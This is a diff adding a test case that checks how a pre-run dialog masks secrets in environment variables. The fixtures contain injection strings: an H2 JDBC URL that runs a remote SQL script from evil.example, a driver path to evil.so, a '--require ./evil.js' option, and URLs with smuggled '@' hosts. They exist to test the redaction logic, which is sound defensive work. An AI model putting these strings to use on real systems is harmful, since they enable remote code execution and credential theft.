@@ -51,6 +51,26 @@ describe('what a dialog shows of a project before it runs', () => {
     ]);
   });
 
+  it('hides of an address what every program takes for its password, and nothing that another may take for what it is led to', () => {
+    const shown = {
+      CACHE_URL: ['redis://:k3v9x2ab@localhost:6379/0', 'redis://:***@localhost:6379/0'],
+      FEED_URL: ['https://x:a%40b@evil.example/', 'https://x:***@evil.example/'],
+      H2_URL: [`jdbc:h2:mem:t;PASSWORD="x;INIT=RUNSCRIPT FROM 'https://evil.example/x.sql'--"`],
+      MAIL_URI: ['smtp://a:yyyy@evil.example@mail.example'],
+      PIP_INDEX_URL: ['https://x:yyyy@evil.example/@pypi.org/simple', 'https://x:***@evil.example/@pypi.org/simple'],
+      QUERY_URL: ['postgres://ada@localhost/app?options=-c&password=evil.so'],
+      SQL_CONNECTION_STRING: ['Driver=/home/ada/evil.so;Database=app'],
+      SQL_DSN: ['jdbc:h2:mem:t;INIT=evil'],
+      TOKEN_OPTS_SECRET: ['--require ./evil.js'],
+      Z_TOKEN: ['a3Y5eDJhYms3djl4MmFi==', '***'],
+    };
+    const variables = Object.fromEntries(Object.entries(shown).map(([name, [value = '']]) => [name, value]));
+    assert.deepEqual(
+      planLines({ environment: variables, envFile: { path: '/home/ada/check.env', variables } }).slice(1),
+      Object.entries(shown).map(([name, values]) => `    ${name}=${values.at(-1)}`),
+    );
+  });
+
   it('shows names whole: what stands behind a long one decides as well', () => {
     const name = `A${'_'.repeat(300)}B`;
     assert.deepEqual(planLines({ start: 'npm start', environment: { [name]: '1' } }).slice(2), [`    ${name}=1`]);
